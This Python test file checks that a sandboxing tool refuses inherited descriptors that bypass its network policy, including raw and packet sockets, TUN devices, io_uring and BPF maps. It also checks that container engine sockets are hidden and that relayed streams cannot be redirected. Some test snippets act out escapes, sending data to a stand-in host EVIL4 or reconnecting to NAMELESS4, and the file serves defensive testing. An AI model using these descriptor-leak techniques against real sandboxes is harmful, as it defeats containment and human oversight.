# SPDX-License-Identifier: Apache-2.0
"""What COMMAND inherits: descriptors that lead past the policy, and standard streams that are connections."""

import sys

from harness import Skip, case, contains, equal, one_line, untouched, worked
from plan import EVIL4, JOB, NAMELESS4

QUIET = ["--allow", "github.com:7", "--summary", "none"]
# makes descriptor 9, or more of them, and becomes the program given
OPEN = """
import ctypes, fcntl, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
def connected(kind):
    s = socket.socket(socket.AF_INET, kind)
    s.connect(("203.0.113.10", 7))
    return s
def listening():
    return socket.create_server(("127.0.0.1", 0))
def tunnel():
    fd = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(fd, 0x400454ca, struct.pack("16sH22x", b"", 1))  # TUNSETIFF, IFF_TUN
    return fd
def ring():
    return libc.syscall(425, 1, ctypes.create_string_buffer(120))  # io_uring_setup
def map_of_bpf():
    return libc.syscall({"x86_64": 321, "aarch64": 280}[os.uname().machine], 0, struct.pack("=IIII56x", 2, 4, 4, 1), 72)
try:
    made = eval(sys.argv[1])
    fd = made if isinstance(made, int) else made.fileno()
    if fd < 0:
        raise OSError("not made")
except OSError:
    sys.exit(77)
for at in sys.argv[2].split(","):
    os.dup2(fd, int(at))
os.closerange(10, 100)
os.execv(sys.argv[3], sys.argv[3:])
"""
UDP = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
SEND = """
        s = socket.socket(fileno=9)
        report(send=attempt(s.sendto, b"out", (EVIL4, 7)))
"""


def with_descriptor(lab, what, options, command, at="9", **others):
    return lab.plain("/usr/bin/python3", "-c", OPEN, what, at, lab.binary, "run", "--user", JOB, *QUIET, *options,
                     "--", *command, **others)


LEAKS = (
    (UDP, "socket"),
    ("socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)", "socket"),
    ("socket.socket(socket.AF_INET, socket.SOCK_STREAM)", "socket"),
    ("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", "socket"),
    ("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)", "socket"),
    ("socket.socket(socket.AF_VSOCK)", "socket"),
    ("connected(socket.SOCK_STREAM)", "socket"),
    ("listening()", "socket"),
    ("tunnel()", "tunnel"),
    ("ring()", "io_uring"),
    ("map_of_bpf()", "BPF"),
)


@case("an inherited descriptor that leads past the policy: 125 and one line with its number; COMMAND never starts")
def leaks(lab):
    for what, word in LEAKS:
        r = with_descriptor(lab, what, [], ["echo", "started"])
        if r.status == 77:
            continue  # not in this kernel
        equal((r.status, r.out), (125, ""), f"exit status and stdout with {what}")
        line = one_line(r.err, "stderr")
        contains(line, "descriptor 9 ", "stderr")
        contains(line, word, "stderr")
        contains(line, "--keep-fd 9", "stderr")
    untouched(lab, EVIL4)


@case("--keep-fd passes it on; one that is not open: 125")
def keep_fd(lab):
    r = with_descriptor(lab, UDP, ["--keep-fd", "9"], lab.python(SEND))
    worked(r, "send")
    equal(lab.packets(EVIL4), 1, "packets")
    equal(with_descriptor(lab, UDP, ["--keep-fd", "8"], ["echo", "started"]).status, 125, "exit status")


@case("inherited files, pipes, unix sockets and directories stay open in COMMAND")
def harmless(lab):
    for what in ("os.open('/dev/null', os.O_RDONLY)", "os.open('/', os.O_RDONLY)", "os.pipe()[1]",
                 "socket.socketpair()[0]", "os.eventfd(0)", "os.memfd_create('m')"):
        r = with_descriptor(lab, what, [], ["test", "-e", "/proc/self/fd/9"])
        equal((r.status, r.err), (0, ""), f"exit status and stderr with {what}")


NAME_SERVICE = """
import os, socket, subprocess, sys

subprocess.run(["mount", "-t", "tmpfs", "none", "/run"], check=True)
os.makedirs("/run/nscd")
server = socket.socket(socket.AF_UNIX)
server.bind("/run/nscd/socket")
sys.exit(subprocess.run(sys.argv[1:]).returncode)
"""


@case("where name services are hidden from COMMAND, an inherited directory would lead to them: 125")
def directory(lab):
    with open("/proc/self/mountinfo", encoding="utf-8") as f:
        if not any(line.split()[4] == "/" for line in f):
            raise Skip("the root is no mount point, so nothing can be mounted for one process alone")
    for how in "os.O_RDONLY", "os.O_PATH":
        r = lab.plain("unshare", "--mount", "--propagation=unchanged", sys.executable, "-c", NAME_SERVICE,
                      "/usr/bin/python3", "-c", OPEN, f"os.open('/', {how})", "9", lab.binary, "run", "--user", JOB,
                      *QUIET, "--", "echo", "started")
        equal((r.status, r.out), (125, ""), "exit status and stdout")
        contains(one_line(r.err, "stderr"), "descriptor 9 is a directory", "stderr")


# Engines that answer, in a /run of their own; then what is given
ENGINES = """
import os, socket, subprocess, sys, threading

subprocess.run(["mount", "-t", "tmpfs", "none", "/run"], check=True)
def serve(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    os.chmod(path, 0o666)
    server.listen()
    def answer():
        while True:
            s, _ = server.accept()
            s.sendall(b"engine")
            s.close()
    threading.Thread(target=answer, daemon=True).start()
for path in "/run/docker.sock", "/run/user/64123/bus", "/run/own/engine.sock":
    serve(path)
env = dict(os.environ, DOCKER_HOST="unix:///run/own/engine.sock")
status = subprocess.run(sys.argv[1:], env=env).returncode
left = [n for n in os.listdir("/run") if n.startswith("cargowall")]
sys.exit(f"left in /run: {left}" if left else status)
"""

ASK = """
def ask(path):
    s = socket.socket(socket.AF_UNIX)
    s.connect(path)
    return s.recv(16).decode()
report(**{path: attempt(ask, path) for path in %r})
"""


def with_engines(lab, paths, *options):
    with open("/proc/self/mountinfo", encoding="utf-8") as f:
        if not any(line.split()[4] == "/" for line in f):
            raise Skip("the root is no mount point, so nothing can be mounted for one process alone")
    return lab.plain("unshare", "--mount", "--propagation=unchanged", sys.executable, "-c", ENGINES, lab.binary, "run",
                     "--user", JOB, "--allow", "github.com", "--summary", "none", *options, "--", *lab.python(ASK % (paths,)))


@case("container engines and the user's bus are hidden from COMMAND, and it is reported that it wanted one")
def engines(lab):
    paths = ("/run/docker.sock", "/run/user/64123/bus", "/run/own/engine.sock")
    r = with_engines(lab, paths * 2)
    equal(r.status, 0, "exit status")
    for path in paths:
        answer = r.facts[path]
        assert answer.get("value") in ("", None), f"an engine answered at {path}: {answer}"
    lines = r.err.splitlines()
    equal(len(lines), len(paths), f"lines on stderr ({r.err})")
    for path, line in zip(paths, lines):
        contains(line, f"wanted to use {path}, which is hidden", "stderr")
    equal(with_engines(lab, paths[:1], "--fail-on-denied").status, 3, "exit status with --fail-on-denied")
    equal(with_engines(lab, (), "--fail-on-denied").status, 0, "exit status with --fail-on-denied, and no engine used")


@case("--engine-sockets leaves engines visible; audit mode does, and says so")
def engines_visible(lab):
    r = with_engines(lab, ("/run/docker.sock",), "--engine-sockets", "--fail-on-denied")
    equal((r.status, r.err, r.facts["/run/docker.sock"].get("value")), (0, "", "engine"), "what COMMAND got")
    r = with_engines(lab, ("/run/docker.sock",), "--mode", "audit")
    equal((r.status, r.facts["/run/docker.sock"].get("value")), (0, "engine"), "what COMMAND got in audit mode")
    contains(one_line(r.err, "stderr"), "it can reach /run/", "stderr")


@case("stdin that is a UDP or a listening socket: 125; --keep-fd 0 passes it on")
def other_streams(lab):
    for what in UDP, "connected(socket.SOCK_DGRAM)", "listening()":
        r = with_descriptor(lab, what, [], ["echo", "started"], at="0")
        equal((r.status, r.out), (125, ""), f"exit status and stdout with {what}")
        contains(r.err, "descriptor 0 ", "stderr")
    r = with_descriptor(lab, "connected(socket.SOCK_STREAM)", ["--keep-fd", "0"],
                        lab.python("report(domain=socket.socket(fileno=os.dup(0)).family)"), at="0")
    equal(r.facts["domain"], 2, "family of stdin")


# -- connections

# A peer, and a program that has its other end as standard streams
CONNECTED = """
import os, socket, subprocess, sys, threading
listener = socket.create_server(("127.0.0.1", 0))
peer = socket.create_connection(listener.getsockname())
served = listener.accept()[0]
listener.close()
if int(sys.argv[3]):
    served.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, int(sys.argv[3]))
    peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, int(sys.argv[3]))
streams = {name: served for name in sys.argv[1].split(",")}
run = subprocess.Popen(sys.argv[4:], **streams)
served.close()
def receive():
    data = b""
    while more := peer.recv(65536):
        data += more
    return data
exec(sys.argv[2])
"""


def over_connection(lab, script, command, streams="stdin,stdout,stderr", before=(), buffer=0):
    """The script talks to COMMAND by way of peer. buffer: bytes that the connection holds, 0 for the usual."""
    return lab.plain("/usr/bin/python3", "-c", CONNECTED, streams, script, buffer, *before, lab.binary, "run", "--user",
                     JOB, *QUIET, "--", *command, seconds=60)


@case("standard streams that are a TCP connection are relayed, both ways, with their ends")
def relay(lab):
    script = """
data = os.urandom(3 << 20)
sender = threading.Thread(target=lambda: (peer.sendall(data), peer.shutdown(socket.SHUT_WR)))
sender.start()
received = receive()
sender.join()
print(received == data, run.wait())
"""
    equal(over_connection(lab, script, ["cat"]).out, "True 0\n", "data that COMMAND returned, exit status")
    equal(over_connection(lab, script, ["cat"], streams="stdin,stdout").out, "True 0\n", "the same, stderr elsewhere")


@case("COMMAND cannot connect such a stream elsewhere")
def relay_attack(lab):
    r = over_connection(lab, "print(receive().decode()); run.wait()", lab.python("""
        s = socket.socket(fileno=os.dup(0))
        def elsewhere():
            disconnect(s)
            s.connect((NAMELESS4, 7))
            s.send(b"out")
        report(unix=s.family == socket.AF_UNIX, elsewhere=attempt(elsewhere))
    """))
    equal(r.facts["unix"], True, "a unix socket")
    assert "errno" in r.facts["elsewhere"], r.facts
    untouched(lab, NAMELESS4)


@case("the end of one direction is passed on alone")
def half_closed(lab):
    command = lab.python("""
        import sys
        s = socket.socket(fileno=0)
        s.sendall(b"first")
        s.shutdown(socket.SHUT_WR)
        print(s.recv(100), file=sys.stderr, flush=True)
    """)
    script = """
first = receive()
peer.sendall(b"second")
print(first, run.wait())
"""
    r = over_connection(lab, script, command, streams="stdin,stdout")
    equal(r.out, "b'first' 0\n", "what the peer received until the end, exit status")
    contains(r.err, "b'second'", "what COMMAND received after it")


THEN_MORE = ["sh", "-c", '"$@"; echo after', "sh"]


@case("the caller can use the connection after the run, also if COMMAND closed it")
def use_after(lab):
    for command in "echo first", "echo first; exec <&- >&-; sleep 0.3":
        r = over_connection(lab, "print(receive(), run.wait())", ["sh", "-c", command], streams="stdin,stdout",
                            before=THEN_MORE)
        equal(r.out, "b'first\\nafter\\n' 0\n", "what the peer received, exit status")


@case("what COMMAND wrote last arrives, also at a peer that reads late")
def last_bytes(lab):
    (lab.dir / "work" / "ended").unlink(missing_ok=True)
    script = """
import time
while run.poll() is None and not os.path.exists("ended"):
    time.sleep(0.01)
time.sleep(0.2)  # for a run that would not wait
data = receive()
print(len(data), data[-6:], run.wait())
"""
    r = over_connection(lab, script, ["sh", "-c", "head -c 150000 /dev/zero && touch ended"], streams="stdin,stdout",
                        before=THEN_MORE, buffer=4096)
    equal(r.out, "150006 b'after\\n' 0\n", "what the peer received, exit status")


@case("a peer that is gone, and input that COMMAND does not read, do not keep the run")
def peer_gone(lab):
    r = over_connection(lab, "peer.close(); print(run.wait())", ["sh", "-c", "read line; echo gone; exit 7"],
                        streams="stdin,stdout")
    equal(r.out, "7\n", "exit status")
    script = """
try:
    peer.sendall(bytes(1 << 24))
except ConnectionError:  # of the input that is never read
    pass
print(run.wait())
"""
    equal(over_connection(lab, script, ["true"], streams="stdin,stdout").out, "0\n", "exit status")
